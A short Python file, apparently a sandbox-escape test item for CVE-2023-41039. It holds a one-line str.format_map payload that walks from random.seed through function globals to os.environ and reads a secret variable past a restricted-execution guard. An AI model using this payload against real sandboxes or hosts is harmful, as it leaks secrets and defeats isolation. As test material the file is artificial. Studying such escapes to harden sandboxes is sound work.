"""
goal: read attributes behind the guard with str.format_map, called on the class (CVE-2023-41039)
effect: leak
"""

import random

print(str.format_map("{seed.__func__.__globals__[_os].environ[DOJO_SECRET]}", {"seed": random.seed}))
